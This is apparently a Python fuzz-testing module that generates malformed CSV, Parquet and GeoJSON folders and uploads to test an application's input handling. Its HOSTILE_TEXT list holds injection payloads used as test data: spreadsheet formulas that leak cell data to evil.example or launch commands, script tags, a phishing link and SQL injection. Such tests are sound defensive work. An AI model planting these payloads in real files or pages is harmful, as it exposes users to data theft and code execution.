"""Malformed data folders and uploads, generated: what a careless user or an attacker hands over.

Used by the fuzz tests (a few hundred cases within a fixed time) and by
`scripts/fuzz_inputs.py` (thousands, each run under a timeout). Every mutation
changes a copy of a valid folder in place and says what it did.
"""

from __future__ import annotations

import io
import os
import random
import shutil
from collections.abc import Callable
from pathlib import Path

TABLES = ("events.csv", "places.csv", "sources.csv", "crossings.csv")

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "[Click here to re-login](https://evil.example/login)",
    "![x](http://evil.example/p.png)",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "${alert(3)} `tick` </script>",
    ":material/warning: :smile: $x^2$",
    "\u202eevil\u202c RTL override",
    "# heading\n\n* list",
    "Ω≈ç√∫ 漢字 👍🏽 \u200b zero-width",
    "'; DROP TABLE events; --",
    "\\",
    '"',
    "",
]


def _lines(path: Path) -> list[bytes]:
    return path.read_bytes().splitlines(keepends=True)


def _pick_table(folder: Path, rng: random.Random) -> Path:
    return folder / rng.choice([t for t in TABLES if (folder / t).is_file()] or ["events.csv"])


def cr_only_line_ends(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r"))
    return f"{path.name}: CR-only line ends"


def lone_cr_in_field(folder: Path, rng: random.Random) -> str:
    path = folder / "events.csv"
    lines = _lines(path)
    i = rng.randrange(1, len(lines))
    lines[i] = lines[i].replace(b",reported", b',"rep\rorted"', 1).replace(b",", b',"a\rb",', 1)
    path.write_bytes(b"".join(lines))
    return f"events.csv: lone CR in a field on line {i + 1}"


def not_a_file(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    path.unlink()
    kind = rng.choice(["dir", "dir-link", "fifo", "dev-zero", "dev-null", "dangling", "loop"])
    if kind == "dir":
        path.mkdir()
    elif kind == "dir-link":
        (folder / "sub").mkdir(exist_ok=True)
        path.symlink_to(folder / "sub")
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    elif kind == "dev-null":
        path.symlink_to("/dev/null")
    elif kind == "dangling":
        path.symlink_to(folder / "nowhere.csv")
    else:
        path.symlink_to(path)
    return f"{path.name}: {kind}"


def link_outside(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    outside = folder.parent / f"outside-{rng.randrange(10**9)}-{path.name}"
    shutil.copy(path, outside)
    path.unlink()
    path.symlink_to(outside)
    return f"{path.name}: link to a file outside the folder"


def header_only(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    path.write_bytes(_lines(path)[0])
    return f"{path.name}: header only"


def empty_file(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    path.write_bytes(rng.choice([b"", b"\n", b"\r\n", b"   "]))
    return f"{path.name}: empty"


def odd_dates(folder: Path, rng: random.Random) -> str:
    path = folder / "events.csv"
    text = path.read_text(encoding="utf-8")
    bad = rng.choice(
        ["0000-01-01", "9999-12-31", "2021-02-30", "2021-13-01", "21-07-01", "１９９９-01-01", ""]
    )
    text = text.replace("2021-07-", bad[:8] if len(bad) > 8 else bad, rng.randint(1, 3))
    path.write_text(text, encoding="utf-8")
    return f"events.csv: date {bad!r}"


def bad_parquet(folder: Path, rng: random.Random) -> str:
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = folder / "events.parquet"
    kind = rng.choice(["garbage", "empty", "list-column", "truncated", "no-rows", "binary"])
    if kind == "garbage":
        path.write_bytes(b"PAR1" + rng.randbytes(rng.randrange(1, 4000)) + b"PAR1")
    elif kind == "empty":
        path.write_bytes(b"")
    else:
        import pandas as pd

        df = pd.read_csv(folder / "events.csv", dtype=str, keep_default_na=False)
        if kind == "no-rows":
            df = df.iloc[:0]
        table = pa.Table.from_pandas(df, preserve_index=False)
        if kind == "list-column":
            table = table.set_column(
                table.schema.get_field_index("summary"),
                "summary",
                pa.array([["a", "b"]] * len(df), pa.list_(pa.string())),
            )
        if kind == "binary":
            table = table.set_column(
                table.schema.get_field_index("actors"),
                "actors",
                pa.array([b"\x00\xff"] * len(df), pa.binary()),
            )
        buf = io.BytesIO()
        pq.write_table(table, buf)
        data = buf.getvalue()
        path.write_bytes(data[: len(data) // 2] if kind == "truncated" else data)
    return f"events.parquet: {kind}"


def bad_outlines(folder: Path, rng: random.Random) -> str:
    path = folder / "borders.geojson"
    kind = rng.choice(
        ["garbage", "truncated", "not-a-collection", "bad-geometry", "null", "deep", "infinite"]
    )
    docs = {
        "garbage": rng.randbytes(rng.randrange(1, 2000)),
        "truncated": b'{"type": "FeatureCollection", "features": [{"type": "Feature", "geom',
        "not-a-collection": b'{"type": "Point", "coordinates": [1, 2]}',
        "bad-geometry": b'{"type": "FeatureCollection", "features": [{"type": "Feature", '
        b'"properties": {}, "geometry": {"type": "Polygon", "coordinates": "abc"}}]}',
        "null": b"null",
        "deep": b"[" * 100_000 + b"]" * 100_000,
        "infinite": b'{"type": "FeatureCollection", "features": [{"type": "Feature", '
        b'"properties": {}, "geometry": {"type": "Point", "coordinates": [1e999, 2]}}]}',
    }
    path.write_bytes(docs[kind])
    return f"borders.geojson: {kind}"


def nul_bytes(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    data = bytearray(path.read_bytes())
    at = rng.randrange(len(data) or 1)
    data[at:at] = b"\x00" * rng.randint(1, 3)
    path.write_bytes(bytes(data))
    return f"{path.name}: NUL at byte {at}"


def long_values(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    lines = _lines(path)
    i = rng.randrange(1, len(lines)) if len(lines) > 1 else 0
    n = rng.choice([301, 5_000, 200_000, 3_000_000])
    lines[i] = lines[i].replace(b",", b',"' + b"x" * n + b'",', 1)
    path.write_bytes(b"".join(lines))
    return f"{path.name}: a {n:,}-character value on line {i + 1}"


def many_fields(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    lines = _lines(path)
    i = rng.randrange(len(lines))
    n = rng.choice([17, 200, 10_016])
    lines[i] = lines[i].rstrip(b"\r\n") + b",x" * n + b"\n"
    path.write_bytes(b"".join(lines))
    return f"{path.name}: {n:,} extra fields on line {i + 1}"


def empty_rows(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    n = rng.choice([3, 150, 200_000])
    path.write_bytes(path.read_bytes() + rng.choice([b"\n", b",,,,\n", b" , \r\n"]) * n)
    return f"{path.name}: {n:,} empty rows"


def hostile_text(folder: Path, rng: random.Random) -> str:
    import csv

    path = folder / "events.csv"
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header = rows[0]
    for _ in range(rng.randint(1, 5)):
        r = rng.randrange(1, len(rows))
        c = rng.randrange(len(header))
        if c < len(rows[r]):
            rows[r][c] = rng.choice(HOSTILE_TEXT)
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return "events.csv: hostile text in random fields"


def wrong_encoding(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    text = path.read_bytes().decode("utf-8", "replace")
    enc = rng.choice(["utf-16", "latin-1", "cp1252", "utf-32"])
    path.write_bytes(text.replace("a", "ä", 3).encode(enc, "replace"))
    return f"{path.name}: {enc}"


def columns_shuffled(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    lines = _lines(path)
    names = lines[0].rstrip(b"\r\n").split(b",")
    kind = rng.choice(["duplicate", "missing", "renamed", "blank", "quoted"])
    if kind == "duplicate":
        names.append(names[0])
    elif kind == "missing":
        names.pop(rng.randrange(len(names)))
    elif kind == "renamed":
        names[rng.randrange(len(names))] = b"Event ID"
    elif kind == "blank":
        names[rng.randrange(len(names))] = b""
    else:
        names = [b'"' + n + b'"' for n in names]
    lines[0] = b",".join(names) + b"\n"
    path.write_bytes(b"".join(lines))
    return f"{path.name}: header {kind}"


def random_bytes(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    data = bytearray(path.read_bytes())
    for _ in range(rng.randint(1, 20)):
        if data:
            data[rng.randrange(len(data))] = rng.randrange(256)
    if rng.random() < 0.3:
        data = data[: rng.randrange(len(data) + 1)]
    path.write_bytes(bytes(data))
    return f"{path.name}: bytes flipped or cut"


def shuffled_lines(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    lines = _lines(path)
    extra = [rng.choice(lines) for _ in range(rng.randint(1, 5))]
    body = lines[1:] + extra
    rng.shuffle(body)
    path.write_bytes(lines[0] + b"".join(body))
    return f"{path.name}: lines repeated and shuffled"


def unclosed_quote(folder: Path, rng: random.Random) -> str:
    path = _pick_table(folder, rng)
    lines = _lines(path)
    i = rng.randrange(1, len(lines)) if len(lines) > 1 else 0
    lines[i] = lines[i].replace(b",", b',"', 1)
    path.write_bytes(b"".join(lines))
    return f"{path.name}: unclosed quote on line {i + 1}"


MUTATIONS: list[Callable[[Path, random.Random], str]] = [
    cr_only_line_ends,
    lone_cr_in_field,
    not_a_file,
    link_outside,
    header_only,
    empty_file,
    odd_dates,
    bad_parquet,
    bad_outlines,
    nul_bytes,
    long_values,
    many_fields,
    empty_rows,
    hostile_text,
    wrong_encoding,
    columns_shuffled,
    random_bytes,
    shuffled_lines,
    unclosed_quote,
]


def malformed_folder(base: Path, target: Path, seed: int) -> list[str]:
    """A copy of `base` at `target` with one to three random mutations; what was done."""
    rng = random.Random(seed)
    shutil.copytree(base, target, symlinks=True)
    done = []
    for mutate in rng.sample(MUTATIONS, rng.choice([1, 1, 1, 2, 3])):
        try:
            done.append(mutate(target, rng))
        except (OSError, ValueError, IndexError) as e:  # an earlier mutation removed the file
            done.append(f"{mutate.__name__}: skipped ({type(e).__name__})")
    return done


def malformed_upload(fixtures: list[tuple[str, bytes]], seed: int) -> tuple[str, bytes, str]:
    """(file name, bytes, what was done) for a broken or hostile upload made from a fixture."""
    rng = random.Random(seed)
    name, data = rng.choice(fixtures)
    lines = data.splitlines(keepends=True)
    kind = rng.choice(
        ["flip", "cut", "nul", "cr-only", "fields", "long", "empty-rows", "hostile", "binary",
         "utf16", "header-only", "columns", "suffix", "quote"]
    )  # fmt: skip
    if kind == "flip":
        b = bytearray(data)
        for _ in range(rng.randint(1, 30)):
            b[rng.randrange(len(b))] = rng.randrange(256)
        data = bytes(b)
    elif kind == "cut":
        data = data[: rng.randrange(len(data))]
    elif kind == "nul":
        at = rng.randrange(len(data))
        data = data[:at] + b"\x00" + data[at:]
    elif kind == "cr-only":
        data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r")
    elif kind == "fields":
        i = rng.randrange(len(lines))
        lines[i] = lines[i].rstrip(b"\r\n") + b",x" * rng.choice([3, 500, 10_016]) + b"\n"
        data = b"".join(lines)
    elif kind == "long":
        i = rng.randrange(1, len(lines)) if len(lines) > 1 else 0
        n = rng.choice([301, 6_000, 2_000_000])
        lines[i] = lines[i].replace(b",", b',"' + b"y" * n + b'",', 1)
        data = b"".join(lines)
    elif kind == "empty-rows":
        data += b",,,,,,\n" * rng.choice([50, 150, 100_000])
    elif kind == "hostile":
        i = rng.randrange(1, len(lines)) if len(lines) > 1 else 0
        text = rng.choice(HOSTILE_TEXT).replace('"', '""').replace("\n", " ")
        lines[i] = lines[i].replace(b",", f',"{text}",'.encode(), 1)
        data = b"".join(lines)
    elif kind == "binary":
        data = rng.choice([b"PK\x03\x04", b"%PDF", b"PAR1", b"\x1f\x8b", b""]) + rng.randbytes(500)
    elif kind == "utf16":
        data = data.decode("utf-8", "replace").encode("utf-16")
    elif kind == "header-only":
        data = lines[0]
    elif kind == "columns":
        data = b"a,b,c\n" + b"1,2,3\n" * 3 if rng.random() < 0.5 else b"x" * 10 + b"\n"
    elif kind == "suffix":
        name = rng.choice(["events.xlsx", "events", "events.CSV", "notes.txt", "e.json"])
    else:
        i = rng.randrange(1, len(lines)) if len(lines) > 1 else 0
        lines[i] = lines[i].replace(b",", b',"', 1)
        data = b"".join(lines)
    return name, data, kind
